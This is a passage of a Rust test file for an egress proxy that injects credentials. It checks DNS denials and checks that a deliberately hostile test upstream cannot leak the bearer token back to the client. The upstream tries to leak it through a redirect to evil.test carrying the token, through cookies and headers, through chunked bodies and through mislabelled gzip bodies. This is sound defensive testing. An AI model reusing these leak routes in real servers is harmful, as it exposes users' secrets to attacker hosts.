        let q = dns_query(id, name, 1);
        tcp.write_all(&(q.len() as u16).to_be_bytes())
            .await
            .unwrap();
        tcp.write_all(&q).await.unwrap();
        let mut len = [0u8; 2];
        tcp.read_exact(&mut len).await.unwrap();
        let mut reply = vec![0u8; usize::from(u16::from_be_bytes(len))];
        tcp.read_exact(&mut reply).await.unwrap();
        assert_eq!(dns_result(&reply).0, expect, "{name} over TCP");
    }
    tcp.write_all(&[0xff, 0xff, 0, 1]).await.unwrap();
    let mut stalled = Vec::new();
    for _ in 0..50 {
        let mut s = TcpStream::connect(dns).await.unwrap();
        let _ = s.write_all(&[0xff, 0xff, 1, 2, 3]).await;
        stalled.push(s);
    }
    // The UDP side keeps answering while TCP clients stall.
    let reply = udp_ask(&socket, &dns_query(30, "api.test", 1))
        .await
        .unwrap();
    assert_eq!(dns_result(&reply), (0, 1));
    drop(stalled);

    // Nothing in the record carries data back either: every denial is recorded.
    let events = fx.proxy.events();
    let denied = events
        .iter()
        .filter(|e| e["kind"] == "dns" && e["decision"] == "deny")
        .count();
    assert!(denied >= 8, "DNS denials not recorded: {denied}");
    fx.survives().await;
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

// ---------------------------------------------------------------------------
// Credential leaks
// ---------------------------------------------------------------------------

/// A hostile upstream that echoes the Authorization it received in every way
/// it can think of: a redirect, response headers, a streamed body, and a
/// gzip-labelled body the proxy cannot read.
struct Leaky {
    port: u16,
    _server: TestServer,
}

type LeakBody = http_body_util::combinators::BoxBody<Bytes, Infallible>;

impl Leaky {
    async fn start(tls: rustls::ServerConfig) -> Self {
        let server = TestServer::tls(tls, |tls| {
            serve_http(tls, |req: Request<Incoming>| async move {
                Ok::<_, Infallible>(leak_route(&req))
            })
        })
        .await;
        Self {
            port: server.port(),
            _server: server,
        }
    }
}

fn leak_route(req: &Request<Incoming>) -> Response<LeakBody> {
    let auth = req
        .headers()
        .get("authorization")
        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
        .unwrap_or_default();
    let token = auth.trim_start_matches("Bearer ").to_owned();
    let response = Response::builder();
    match req.uri().path() {
        "/redirect" => response
            .status(302)
            .header("location", format!("https://evil.test/?t={token}"))
            .body(Full::new(Bytes::new()).boxed()),
        "/gzip" => response
            .header("content-encoding", "gzip")
            .body(Full::new(Bytes::from(format!("compressed:{auth}"))).boxed()),
        "/gzip2" => response
            // An innocent first Content-Encoding, the real one second.
            .header("content-encoding", "identity")
            .header("content-encoding", "gzip")
            .body(Full::new(Bytes::from(format!("compressed:{auth}"))).boxed()),
        "/header" => response
            .header("x-leak", auth.clone())
            .header("set-cookie", format!("t={token}; Path=/"))
            .header("www-authenticate", format!("Bearer realm=\"{token}\""))
            .body(Full::new(Bytes::from_static(b"ok")).boxed()),
        _ => {
            // The token dripped a few bytes per frame so it straddles chunks.
            let text = format!("data: {auth} and again {token}\n");
            let frames: Vec<Result<Frame<Bytes>, Infallible>> = text
                .as_bytes()
                .chunks(3)
                .map(|c| Ok(Frame::data(Bytes::copy_from_slice(c))))
                .collect();
            response.body(BodyExt::boxed(StreamBody::new(futures_util::stream::iter(
                frames,
            ))))
        }
    }
    .unwrap()
}

#[tokio::test]
async fn a_hostile_upstream_cannot_echo_the_secret_to_the_client() {
    let fx = Fx::new().await;
    let base = format!("https://api.test:{}", fx.leak.port);
    for version in ["--http1.1", "--http2"] {
        for path in ["/redirect", "/header", "/body"] {
            let (code, body, out) =
                curl(&fx.proxy, &[version, "-i", &format!("{base}{path}")]).await;
            assert!(code == 200 || code == 302, "{path}: {out:?}");
            assert!(
                !out.stdout.contains(SECRET) && !out.stderr.contains(SECRET),
                "{version} {path}: the secret reached the client: {body}"
            );
            assert!(body.contains("[secret:token]"), "{path}: {body}");
        }
        // A compressed response to a credential-bearing request cannot be
        // scrubbed: refused.
        let (code, body, out) = curl(&fx.proxy, &[version, "-i", &format!("{base}/gzip")]).await;
        assert_eq!(code, 502, "{out:?}");
        assert!(!out.stdout.contains(SECRET), "{body}");
        // A second Content-Encoding header behind an innocent first one.
        let (code, _, out) = curl(
            &fx.proxy,
            &[version, "--compressed", &format!("{base}/gzip2")],
        )
        .await;
        assert_eq!(code, 502, "{out:?}");
        assert!(!out.stdout.contains(SECRET));
        // Asking for compression explicitly changes nothing.
        let (code, _, out) = curl(
            &fx.proxy,
            &[version, "--compressed", &format!("{base}/gzip")],
        )
        .await;
        assert_eq!(code, 502, "{out:?}");
        assert!(!out.stdout.contains(SECRET));
    }
    // A redirect to a host that is not bound is not followed with the secret
    // (the proxy never follows redirects; the client's follow-up is to a denied host).
    let (code, _, out) = curl(&fx.proxy, &["-L", &format!("{base}/redirect")]).await;
    assert_ne!(code, 200, "{out:?}");
    assert_eq!(fx.evil.hits(), 0);
    // Not in the record or the logs either.
    let record = std::fs::read_to_string(&fx.proxy.events).unwrap();
    assert!(!record.contains(SECRET), "secret in the record");
    assert!(!fx.proxy.stderr.lock().unwrap().join("\n").contains(SECRET));
    fx.survives().await;
}

#[tokio::test]
async fn the_placeholder_stays_a_placeholder_off_its_hosts() {
    let fx = Fx::new().await;
    let dummy = fx
        .proxy
        .placeholder("TEST_TOKEN")
        .expect("the proxy announces the placeholder");
    // Plain HTTP to the credential's own host: no secret in cleartext.
    let plain = format!("http://api.test:{}/echo", fx.plain.port());
    let (code, body, _) = curl(&fx.proxy, &["-H", &format!("X-Key: {dummy}"), &plain]).await;
    assert_eq!(code, 200);
    assert!(!body.contains(SECRET), "{body}");
    assert_eq!(
        fx.plain.last_header("x-key").as_deref(),
        Some(dummy.as_str())
    );
    assert_eq!(fx.plain.last_header("authorization"), None);
    // The placeholder in the query string or body is never swapped (only headers are).
    let tls = format!("https://{}/echo?k={dummy}", fx.good_authority());
    let (code, body, _) = curl(&fx.proxy, &["-d", &format!("k={dummy}"), &tls]).await;
    assert_eq!(code, 200);
    assert!(!body.contains(SECRET));
    let seen = fx.good.seen.lock().unwrap().last().cloned().unwrap();
    assert_eq!(seen.path, "/echo");
    // A denied host never gets anything, placeholder or not.
    let evil = format!("https://evil.test:{}/echo", fx.evil.port());
    let (code, _, _) = curl(
        &fx.proxy,
        &["-H", &format!("Authorization: {dummy}"), &evil],
    )
    .await;
    assert_eq!(code, 403);
    fx.survives().await;
}
